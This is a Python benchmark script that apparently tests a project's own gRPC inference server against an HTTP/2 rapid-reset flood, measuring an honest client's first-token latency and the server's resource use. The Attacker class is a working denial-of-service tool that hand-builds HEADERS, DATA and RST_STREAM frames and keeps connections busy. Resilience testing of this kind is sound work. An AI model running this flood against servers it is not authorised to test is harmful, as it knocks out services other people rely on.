"""Rapid reset of HTTP/2: calls that are given up in the same breath, beside an honest client.

    medha-jax serve --mesh cpu-small --max-context 4096 --access-log off --port 9320
    python -m benchmarks.rapid_reset 127.0.0.1:9320 --pid PID

Each call is HEADERS, DATA and RST_STREAM. A connection sends as fast as the server reads, until it is closed;
with `--again` another one is opened then. The honest client asks for two tokens, again and again, before the attack and
during it.
"""

from __future__ import annotations

import argparse
import contextlib
import multiprocessing
import select
import socket
import struct
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field

import numpy as np

from benchmarks.fuzz import held
from benchmarks.fuzz_frames import CONNECT_SECONDS, PREFACE, framed
from medha_jax.client import Client, Connection, Delta, ServerError
from medha_jax.client.connection import SERVICE
from medha_jax.protos import inference_pb2 as pb

BATCH = 50  # calls between two looks at what the server says
STALL_SECONDS = 5.0  # without a window; then the connection is given up
CLOSED_SECONDS = 5.0  # for the server to close a connection, once everything was sent
PAUSE_SECONDS = 0.02  # after a connection that was refused
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
WINDOW = 65_535  # bytes of messages that a new connection may send


def headers(method: str, authority: str, token: str | None) -> bytes:
    """The header block of a call, without compression; texts of fewer than 127 bytes."""

    def text(value: str) -> bytes:
        return bytes([len(value)]) + value.encode()

    block = b"\x83\x86\x04" + text(method) + b"\x01" + text(authority)  # POST, http
    block += b"\x0f\x10" + text("application/grpc") + b"\x00" + text("te") + text("trailers")
    return block if token is None else block + b"\x0f\x08" + text(f"Bearer {token}")


def frames(data: bytes) -> Iterator[tuple[int, int, int, bytes]]:
    """Whole frames in what a server sent: kind, flags, stream, payload."""
    while len(data) >= 9 and len(data) >= 9 + (size := int.from_bytes(data[:3], "big")):
        yield data[3], data[4], int.from_bytes(data[5:9], "big"), data[9 : 9 + size]
        data = data[9 + size :]


@dataclass(frozen=True)
class Attack:
    """Calls that are given up at once: how many, over how many connections, of which method, with which token.

    With `again` another connection is opened for each that the server closes.
    """

    calls: int = 100_000
    connections: int = 4
    method: str = SERVICE + "Generate"
    token: str | None = None
    again: bool = False


@dataclass
class Done:
    """What an attack did: calls that were sent, connections that were opened, those that the server closed."""

    calls: int = 0
    connections: int = 0
    closed: int = 0


class Attacker:
    """Sends its share of calls on a connection, or on one after the other; a thread for each, which `lock` counts."""

    def __init__(self, address: str, attack: Attack, done: Done, lock: threading.Lock) -> None:
        host, port = address.rsplit(":", 1)
        self._where, self._attack, self._done, self._lock = (host.strip("[]"), int(port)), attack, done, lock
        self._left = attack.calls // attack.connections
        self._block = headers(attack.method, address, attack.token)
        settings = pb.GenerateSettings(sampling=pb.SamplingSettings(max_tokens=200, ignore_eos=True))
        message = pb.GenerateRequest(token_ids=pb.PromptIds(ids=[5, 6, 7]), settings=settings).SerializeToString()
        message = message if attack.method.startswith(SERVICE) else b""  # of a health check
        self._message = b"\x00" + struct.pack(">I", len(message)) + message

    def run(self) -> None:
        """Attack until the share is sent."""
        while self._left > 0:
            closed = True
            with contextlib.suppress(OSError), socket.create_connection(self._where, CONNECT_SECONDS) as connected:
                with self._lock:
                    self._done.connections += 1
                self._send(connected)
                closed = self._closed(connected)
            with self._lock:
                self._done.closed += closed
            if not self._attack.again:
                return
            time.sleep(PAUSE_SECONDS)

    def _closed(self, connected: socket.socket) -> bool:
        """Whether the server closes a connection that says nothing more."""
        end = time.monotonic() + CLOSED_SECONDS
        while (left := end - time.monotonic()) > 0:
            if select.select([connected], [], [], left)[0] and not connected.recv(65_536):
                return True
        return False

    def _send(self, connected: socket.socket) -> None:
        connected.sendall(PREFACE + framed(SETTINGS, 0, 0))
        stream, window, rest = 1, WINDOW, b""
        while self._left > 0:
            sent, size = list[bytes](), len(self._message)
            for _ in range(min(BATCH, window // size)):
                sent += [
                    framed(HEADERS, END_HEADERS, stream, self._block),
                    framed(DATA, END_STREAM, stream, self._message),
                    framed(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)),
                ]
                stream += 2
            connected.sendall(b"".join(sent))
            window -= size * (len(sent) // 3)
            self._left -= len(sent) // 3
            with self._lock:
                self._done.calls += len(sent) // 3
            patience = 0.0 if sent else STALL_SECONDS
            while select.select([connected], [], [], patience)[0]:
                if not (data := connected.recv(65_536)):
                    return
                rest += data
                answers = list(frames(rest))
                rest = rest[sum(9 + len(payload) for *_, payload in answers) :]
                for kind, flags, number, payload in answers:
                    if kind == WINDOW_UPDATE and number == 0:
                        window += int.from_bytes(payload, "big")
                    elif kind in (SETTINGS, PING) and not flags & ACK:
                        connected.sendall(framed(kind, ACK, 0, payload if kind == PING else b""))
                    elif kind == GOAWAY:
                        return
                patience = 0.0
            if not sent and window < size:
                return


def reset_calls(address: str, attack: Attack) -> Done:
    """Make calls and give each up at once. In a process of its own it disturbs nobody's clock."""
    done, lock = Done(), threading.Lock()
    attackers = [Attacker(address, attack, done, lock) for _ in range(attack.connections)]
    threads = [threading.Thread(target=attacker.run) for attacker in attackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return done


def first_token_seconds(client: Client) -> float:
    """From sending a request to its first token."""
    began, first = time.perf_counter(), 0.0
    for event in client.generate([5, 6, 7], max_tokens=2, ignore_eos=True, timeout=60):
        if isinstance(event, Delta) and not first:
            first = time.perf_counter() - began
    return first


@dataclass
class Beside:
    """What an honest client got: seconds to first tokens before and during an attack, and failures in words."""

    before: list[float] = field(default_factory=list)
    during: list[float] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)
    done: Done = field(default_factory=Done)


def beside(address: str, attack: Attack, seconds: float, token: str | None = None) -> Beside:
    """Ask for so many seconds before an attack, and again from its begin on until it is over, as long at least."""
    got = Beside()
    with (
        ProcessPoolExecutor(1, multiprocessing.get_context("spawn")) as pool,
        Client(Connection(address, token=token)) as client,
    ):
        pool.submit(time.sleep, 0).result()  # it has started
        first_token_seconds(client)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            got.before.append(first_token_seconds(client))
        attacking, end = pool.submit(reset_calls, address, attack), time.monotonic() + seconds
        while not attacking.done() or time.monotonic() < end:
            try:
                got.during.append(first_token_seconds(client))
            except ServerError as error:
                got.failed.append(f"{error.code}: {error}")
        got.done = attacking.result()
    return got


def main() -> None:
    """Attack, and print what the honest client got."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("--calls", type=int, default=Attack.calls)
    parser.add_argument("--connections", type=int, default=Attack.connections)
    parser.add_argument("--method", default=Attack.method)
    parser.add_argument("--again", action="store_true", help="open another connection for each that is closed")
    parser.add_argument("--seconds", type=float, default=30.0, help="of the honest client, before and beside")
    parser.add_argument("--token", help="of the honest client")
    parser.add_argument("--attack-token", help="of the attack")
    parser.add_argument("--pid", type=int, help="of the server, to see what it holds")
    given = parser.parse_args()
    attack = Attack(given.calls, given.connections, given.method, given.attack_token, given.again)
    was = held(given.pid) if given.pid else None
    got = beside(given.address, attack, given.seconds, given.token)
    print(f"{got.done.calls:,} calls, {got.done.connections:,} connections, {got.done.closed:,} closed by the server")
    for name, times in (("before", got.before), ("during", got.during)):
        p50, p99, most = 1000 * np.percentile(times or [0.0], (50, 99, 100))
        print(f"first token {name}: {len(times)} requests, P50 {p50:.1f}, P99 {p99:.1f}, most {most:.1f} ms")
    print(f"{len(got.failed)} honest requests failed{', such as ' + got.failed[0] if got.failed else ''}")
    if was is not None:
        time.sleep(1)
        for when, (memory, files, threads) in (("before", was), ("after", held(given.pid))):
            print(f"{when}: {memory:.1f} MiB, {files} descriptors, {threads} threads")


if __name__ == "__main__":
    main()
